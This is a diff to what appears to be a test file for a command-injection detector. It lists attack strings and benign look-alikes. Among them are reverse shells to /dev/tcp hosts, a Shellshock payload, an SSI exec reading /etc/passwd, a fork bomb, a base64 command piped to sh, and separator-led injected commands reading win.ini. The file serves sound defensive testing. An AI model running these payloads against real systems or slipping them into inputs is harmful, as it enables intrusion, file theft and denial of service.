@@ -42,6 +42,8 @@ const ATTACKS: readonly string[] = [
   'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'exec 5<>/dev/tcp/8.8.8.8/80', 'd=/dev&&(sh)0>$d/tcp/1.2.3.4/777',
   '() { :;}; /bin/bash -c "id"', '<!--#exec cmd="/bin/cat /etc/passwd"-->', ':(){ :|:& };:',
   'cat<<<ifconfig | sh', 'echo dW5hbWUgLWE= | base64 -d | sh',
+  // A leading separator and a bare command as the whole value; capitals after it; cmd.exe variables
+  ';top', '; ;top', ';rmt-tar', ';CHMOD +X EVIL.PHP', '" | type %SystemDrive%\\config.ini | "', '& type %windir%\\win.ini',
   // Mail protocol injection after a line break
   '\r\nMAIL FROM:<a@b.com>', '\r\nRCPT TO:<postmaster@example.com>', '\r\nA001 EXAMINE INBOX',
 ];
@@ -68,6 +70,8 @@ const BENIGN: readonly string[] = [
   'hello [text in brackets]', 'page[1]', 'data[index]', 'take this math expression: 1[a/-1]', '**Bash warning**: careful',
   '$(document).ready(function () { init(); })', 'Size: 8"x11"', "That's two \"O\"s in goose", 'id', 'date', 'sort=name',
   'The `Copy` trait and `Clone`', 'See link(2) and popen(3)', 'if x == 1: return', 'if (a == b) { return }',
+  ';More', 'Hello;More info', 'a; top', ';top of the list', 'WARNING; CHMOD is dangerous', 'type %windir% into the Run box',
+  'Type %SystemDrive%\\Temp in the box', '| Type | %OS% |',
   'Go to store.\nAt the store, shop.', 'Hello!\ndata not found.', 'We need the list "ASAP"', 'data:image/png;base64,iVBORw0KGgo=',
 ];
 
